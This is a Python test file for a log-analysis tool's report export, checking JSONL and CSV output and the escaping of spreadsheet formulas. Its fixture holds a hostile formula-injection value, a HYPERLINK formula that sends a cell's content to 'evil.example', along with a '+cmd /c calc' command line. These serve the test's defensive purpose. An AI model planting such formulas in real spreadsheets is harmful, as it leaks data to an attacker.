"""JSON lines and CSV of a result document: every finding and incident once, and spreadsheet
cells that cannot run as formulas."""

from __future__ import annotations

import csv
import io
import json
from datetime import datetime

from seawall.model.finding import (
    AnalystReview,
    AttackRef,
    Evidence,
    Finding,
    Incident,
    IndicatorRef,
    Provenance,
    ResultDocument,
    Suppression,
)
from seawall.model.reason import Reason
from seawall.model.verdict import Review, Verdict
from seawall.report.formats import render, visible
from seawall.report.tabular import COLUMNS, neutralise

WHEN = datetime(2024, 3, 1, 10, 0)


def _document() -> ResultDocument:
    hostile = Finding(
        finding_id="a" * 32,
        detection_id="evtx.admin-commands",
        title="Admin commands",
        # what an attacker controls: a command line that a spreadsheet would run
        summary='=HYPERLINK("http://evil.example/?"&A1,"click")',
        severity="medium",
        score=50,
        host="@ws1",
        user="-alice",
        first_seen=WHEN,
        last_seen=WHEN,
        techniques=["T1033"],
        attack=[AttackRef(id="T1033", tactics=["discovery"])],
        verdict=Verdict.SUSPICIOUS,
        reasons=[Reason(code="match", text=f"reason {n}") for n in range(5)],
        evidence=[
            Evidence(
                row={"command_line": "+cmd /c calc"},
                records=[
                    Provenance(source_file="Security.evtx", record_ref="7"),
                    Provenance(source_file="Sysmon.evtx", record_ref="9"),
                    Provenance(source_file="Security.evtx", record_ref="8"),
                ],
                indicator=IndicatorRef(type="domain", value="evil.example"),
            )
        ],
        review=AnalystReview(
            verdict=Review.TRUE_POSITIVE, reason="confirmed", analyst="ana", at=WHEN
        ),
    )
    quiet = Finding(
        finding_id="b" * 32,
        detection_id="ioc.file-hash",
        title="File hash",
        summary="c:\\tools\\putty.exe: its MD5 is an indicator",
        severity="high",
        score=75,
        suppressed=True,
        suppression=Suppression(kind="triage", reason="lab", entry="allow.yml:3", applied=WHEN),
    )
    incident = Incident(
        incident_id="i1",
        title="Web shell, then discovery",
        summary="web01: shell then whoami",
        severity="critical",
        score=95,
        finding_ids=[hostile.finding_id, quiet.finding_id],
        hosts=["web01"],
        first_seen=WHEN,
    )
    return ResultDocument(
        run_id="r" * 32,
        seawall_version="test",
        case="case",
        started=WHEN,
        finished=WHEN,
        findings=[hostile, quiet],
        incidents=[incident],
    )


def test_csv_has_a_row_per_finding_and_incident_and_runs_no_formula() -> None:
    text = render(_document(), "csv").text
    rows = list(csv.DictReader(io.StringIO(text)))
    assert list(rows[0]) == list(COLUMNS)
    assert [(r["kind"], r["id"]) for r in rows] == [
        ("finding", "a" * 32),
        ("finding", "b" * 32),
        ("incident", "i1"),
    ]
    first = rows[0]
    assert first["summary"] == '\'=HYPERLINK("http://evil.example/?"&A1,"click")'
    assert first["host"] == "'@ws1" and first["user"] == "'-alice"
    assert first["top_reasons"] == "reason 0 | reason 1 | reason 2"
    assert first["records"] == "3" and first["evidence_count"] == "1"
    assert first["source_files"] == "Security.evtx; Sysmon.evtx"
    assert first["indicators"] == "domain:evil.example"
    assert first["tactics"] == "discovery" and first["score"] == "50"
    assert (first["verdict"], first["analyst_verdict"], first["analyst"]) == (
        "suspicious",
        "true-positive",
        "ana",
    )
    assert rows[1]["suppressed_by"] == "triage allow.yml:3: lab"
    assert rows[2]["findings"] == f"{'a' * 32} {'b' * 32}"
    assert rows[2]["host"] == "web01" and rows[2]["detection"] == ""
    # No cell of the file starts with a character a spreadsheet would evaluate.
    for row in csv.reader(io.StringIO(text)):
        assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row)


def test_neutralise() -> None:
    assert neutralise("=1+1") == "'=1+1"
    assert neutralise("\t=1") == "'\t=1"
    assert neutralise("plain -text") == "plain -text"
    assert neutralise("") == ""


def test_jsonl_has_one_object_a_line() -> None:
    document = _document()
    lines = render(document, "jsonl").text.splitlines()
    parsed = [json.loads(line) for line in lines]
    assert [(p["kind"], p.get("finding_id") or p.get("incident_id")) for p in parsed] == [
        ("finding", "a" * 32),
        ("finding", "b" * 32),
        ("incident", "i1"),
    ]
    assert all(p["run_id"] == "r" * 32 for p in parsed)
    back = {k: v for k, v in parsed[0].items() if k not in ("kind", "run_id")}
    assert Finding.model_validate(back) == document.findings[0]


def test_suppressed_findings_are_left_out_unless_asked_for() -> None:
    document = _document()
    shown = visible(document, include_suppressed=False)
    assert [f.finding_id for f in shown.findings] == ["a" * 32]
    assert visible(document, include_suppressed=True) == document
    parsed = ResultDocument.model_validate_json(render(shown, "json").text)
    assert parsed == shown
